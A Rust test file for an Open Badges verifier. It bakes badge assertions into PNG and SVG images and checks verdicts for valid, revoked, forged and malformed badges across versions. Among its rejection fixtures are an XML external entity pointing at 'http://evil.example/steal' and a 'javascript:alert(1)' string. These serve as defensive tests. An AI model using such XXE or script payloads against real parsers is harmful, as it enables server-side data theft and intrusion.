//! Badges of every version in pictures: what a picture holds is judged as it would be without one.

use holdall_formats::bake;
use holdall_model::{Reason, Verdict};
use holdall_verify::Input;
use serde_json::{Value, json};

use crate::{
    legacy::{hosted, old},
    world::*,
};

const SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";

fn chunk(name: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    let mut hasher = crc32fast::Hasher::new();
    hasher.update(name);
    hasher.update(data);
    [&length[..], name, data, &hasher.finalize().to_be_bytes()].concat()
}

fn png(chunks: &[Vec<u8>]) -> Vec<u8> {
    let header = chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
    [SIGNATURE, &header, &chunks.concat(), &chunk(b"IEND", b"")].concat()
}

fn text(payload: &str) -> Vec<u8> {
    chunk(b"iTXt", &[b"openbadges\0\0\0\0\0", payload.as_bytes()].concat())
}

fn old_text(payload: &str) -> Vec<u8> {
    chunk(b"tEXt", &[b"openbadges\0", payload.as_bytes()].concat())
}

fn svg(inside: &str) -> Vec<u8> {
    format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"http://openbadges.org\">{inside}</svg>")
        .into_bytes()
}

/// The schools of each version with a badge at `ASSERTION`.
fn schools() -> Vec<(&'static str, World)> {
    let mut first = World::default();
    first.put(ASSERTION, old());
    vec![
        ("0.5", first),
        ("1.0", hosted(false)),
        ("1.1", hosted(true)),
        ("2.0", school()),
    ]
}

fn badge(world: &World) -> String {
    let Some(Page::Text(_, badge)) = world.0.get(ASSERTION) else {
        panic!()
    };
    badge.clone()
}

#[tokio::test]
async fn an_address_in_a_picture_leads_to_a_badge_of_any_version() {
    for (version, world) in schools() {
        for picture in [
            png(&[old_text(ASSERTION)]),
            png(&[text(ASSERTION)]),
            svg(&format!("<openbadges:assertion verify=\"{ASSERTION}\"/>")),
        ] {
            let answer = world.judge(Input::Bytes(picture.clone())).await;
            assert_eq!(said(&answer), (Verdict::Valid, vec![]), "{version}");
            let mut gone = World::default();
            gone.0.insert(ASSERTION.into(), Page::Text(410, String::new()));
            let answer = gone.judge(Input::Bytes(picture)).await;
            assert_eq!(said(&answer), (Verdict::Invalid, vec![Reason::Revoked]), "{version}");
        }
    }
}

#[tokio::test]
async fn a_hosted_badge_in_a_picture_is_a_pointer_in_any_version() {
    for (version, world) in schools().into_iter().skip(1) {
        let own = badge(&world);
        let mut forged: Value = serde_json::from_str(&own).unwrap();
        forged["recipient"]["identity"] = "mallory@example.org".into();
        for (held, expected) in [
            (own, (Verdict::Valid, vec![])),
            (forged.to_string(), (Verdict::Invalid, vec![Reason::Mismatch])),
        ] {
            for picture in [
                png(&[text(&held)]),
                svg(&format!(
                    "<openbadges:assertion verify=\"{ASSERTION}\"><![CDATA[{held}]]></openbadges:assertion>"
                )),
                bake(&svg(""), held.as_bytes(), false).unwrap(),
            ] {
                assert_eq!(
                    said(&world.judge(Input::Bytes(picture)).await),
                    expected,
                    "{version}: {held}"
                );
            }
        }
    }
}

#[tokio::test]
async fn what_is_wrong_with_a_picture_is_a_matter_of_the_picture() {
    let world = school();
    let own = badge(&world);
    let whole = png(&[text(&own)]);
    let mut spoilt = text(&own);
    *spoilt.last_mut().unwrap() ^= 1;
    let entities = format!(
        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"http://evil.example/steal\">]>{}",
        String::from_utf8(svg("<openbadges:assertion>&x;</openbadges:assertion>")).unwrap()
    );
    for (what, picture) in [
        ("nothing in it", png(&[])),
        ("an empty text", png(&[text("")])),
        ("another keyword", png(&[chunk(b"iTXt", b"OpenBadges\0\0\0\0\0{}")])),
        ("a zTXt chunk", png(&[chunk(b"zTXt", b"openbadges\0\0")])),
        ("behind the end", [png(&[]), text(&own)].concat()),
        ("a wrong checksum", png(&[spoilt])),
        ("cut off", whole[..80].to_vec()),
        ("a signature in text mode", [b"\x89PNG\n\x1a\n", &whole[8..]].concat()),
        ("a signature without its first bit", [b"\x09", &whole[1..]].concat()),
        ("an SVG without a badge", svg("<rect/>")),
        ("an element of nobody", svg(&format!("<assertion>{own}</assertion>"))),
        (
            "a badge in a comment",
            svg("<!-- <openbadges:assertion>{}</openbadges:assertion> -->"),
        ),
        ("entities", entities.into_bytes()),
    ] {
        let answer = world.judge(Input::Bytes(picture)).await;
        assert_eq!(said(&answer), (Verdict::Invalid, vec![Reason::Image]), "{what}");
        assert_eq!(answer.report.used.len(), 0, "{what}: nothing is asked");
    }
    for (what, held) in [
        ("a sentence", "not a badge at all".to_owned()),
        ("a list", json!([assertion()]).to_string()),
        ("half a badge", own[..own.len() - 1].to_owned()),
        ("a script", "javascript:alert(1)".to_owned()),
    ] {
        let answer = world.judge(Input::Bytes(png(&[text(&held)]))).await;
        assert_eq!(said(&answer), (Verdict::Invalid, vec![Reason::Content]), "{what}");
    }
}
